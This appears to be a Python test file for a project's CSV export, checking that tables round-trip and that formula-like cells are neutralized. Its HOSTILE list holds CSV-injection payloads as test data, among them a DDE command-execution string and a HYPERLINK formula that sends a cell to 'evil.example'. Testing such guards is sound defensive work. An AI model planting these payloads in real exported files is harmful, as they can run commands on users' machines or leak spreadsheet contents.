"""CSV: the tables read back, and no cell that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as some
from msgspec.structs import replace

from onrecord.export.dataset import FORMATS, Collection, parse_rule
from onrecord.export.dataset.columns import load_columns
from onrecord.export.dataset.csv import MARK, guard_cell, strip_guard, write_csv_in
from onrecord.export.dataset.tables import iterate_rows
from onrecord.model import Entry, Ref

from .invented import ENTRIES, EVERYTHING, compared, plain, write

HOSTILE = (
    '=cmd|"/C calc"!A0',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=HYPERLINK("https://evil.example?x="&A1)',
    "'=1+1",
)


def read_tables(data: bytes) -> dict[str, list[dict[str, str]]]:
    """The tables of an archive, as a program reads them."""
    tables = {}
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8-sig")
            tables[name.removesuffix(".csv")] = list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
    return tables


@pytest.mark.parametrize("cell", HOSTILE)
def test_hostile_cells_are_text(cell: str) -> None:
    """Nothing that a spreadsheet takes for a formula is left at the start of a cell, and it can be had back."""
    guarded = guard_cell(cell)
    assert str(guarded).startswith("'")
    assert strip_guard(str(guarded)) == cell


@given(some.text())
def test_guard_can_be_undone(cell: str) -> None:
    """Whatever the text, a program that takes the guard away has it back."""
    guarded = guard_cell(cell)
    assert isinstance(guarded, str)
    assert guarded.lstrip()[:1] not in {"=", "+", "-", "@"} or not guarded
    assert strip_guard(guarded) == cell


def test_hostile_report_stays_harmless() -> None:
    """A report whose title, name and quotation are formulas gives no cell that is one."""
    record = replace(ENTRIES[0].record, report=replace(ENTRIES[0].record.report, title='=1+1",=2', publisher="@x"))
    _, data = write(FORMATS["csv"], Collection((Entry(Ref(record.report.id, "-rm\r\n=1"), record),)))
    tables = read_tables(data)
    assert tables["reports"][0]["title"] == "'=1+1\",=2"
    assert tables["reports"][0]["ref"] == "'-rm\r\n=1"
    cells = (cell for rows in tables.values() for row in rows for cell in row.values())
    assert not [cell for cell in cells if cell.lstrip()[:1] in set("=+-@")]


def test_numbers_stay_numbers() -> None:
    """A negative number is no formula."""
    assert [guard_cell(cell) for cell in (-66.9, -1, 0, True, False, None, "")] == [
        -66.9,
        -1,
        0,
        "true",
        "false",
        "",
        "",
    ]


def test_tables_come_back_whole() -> None:
    """Every cell of every table is what was given, in the columns of the docs."""
    collection = compared(parse_rule(EVERYTHING))
    written, data = write(FORMATS["csv"], collection)
    tables = read_tables(data)
    assert list(tables) == list(load_columns("tables"))
    given: dict[str, list[dict[str, str]]] = {name: [] for name in tables}
    for name, row in iterate_rows(collection):
        assert row is not None
        assert list(row) == [column.name for column in load_columns("tables")[name]] or set(row) == {
            column.name for column in load_columns("tables")[name]
        }
        given[name].append({key: "" if cell is None else str(guard_cell(cell)) for key, cell in row.items()})
    assert {name: [dict(sorted(row.items())) for row in rows] for name, rows in tables.items()} == {
        name: [dict(sorted(row.items())) for row in rows] for name, rows in given.items()
    }
    assert written.rows == sum(map(len, tables.values()))
    assert all(tables.values())


def test_every_row_leads_to_its_span() -> None:
    """Report, start and end of every row cut the words that it gives out of the report's text."""
    texts = {entry.report.id: entry.record.report.text for entry in ENTRIES}
    _, data = write(FORMATS["csv"], compared(parse_rule(EVERYTHING)))
    count = 0
    for name, rows in read_tables(data).items():
        for row in rows:
            assert row.get("report", row["id"] if name == "reports" else "") in texts
            words = row.get("text") or row.get("trigger")
            if words:
                assert texts[row["report"]][int(row["start"]) : int(row["end"])] == strip_guard(words)
                count += 1
    assert count > 30


def test_rule_decides_on_events_and_fillers() -> None:
    """What does not count is in neither table, and is counted."""
    written, data = write(FORMATS["csv"], plain(parse_rule("type = assault and status = occurred")))
    tables = read_tables(data)
    assert [row["id"] for row in tables["events"]] == ["e1", "e1", "e1"]
    assert {row["event"] for row in tables["fillers"]} == {"e1"}
    assert written.left_out == {"the rule": 4}


def test_mark_is_an_option() -> None:
    """Each table begins with the byte order mark, or does not."""
    for name, begins in (("csv", False), ("csv-excel", True)):
        with zipfile.ZipFile(io.BytesIO(write(FORMATS[name], plain())[1])) as archive:
            for table in archive.namelist():
                assert archive.read(table).startswith(MARK.encode()) == begins


def test_folder_holds_what_the_archive_holds(tmp_path: Path) -> None:
    """The same files, byte for byte; and the same archive twice."""
    data = write(FORMATS["csv"], compared())[1]
    write_csv_in(compared(), tmp_path)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert {name: archive.read(name) for name in archive.namelist()} == {
            path.name: path.read_bytes() for path in tmp_path.iterdir()
        }
    assert write(FORMATS["csv"], compared())[1] == data
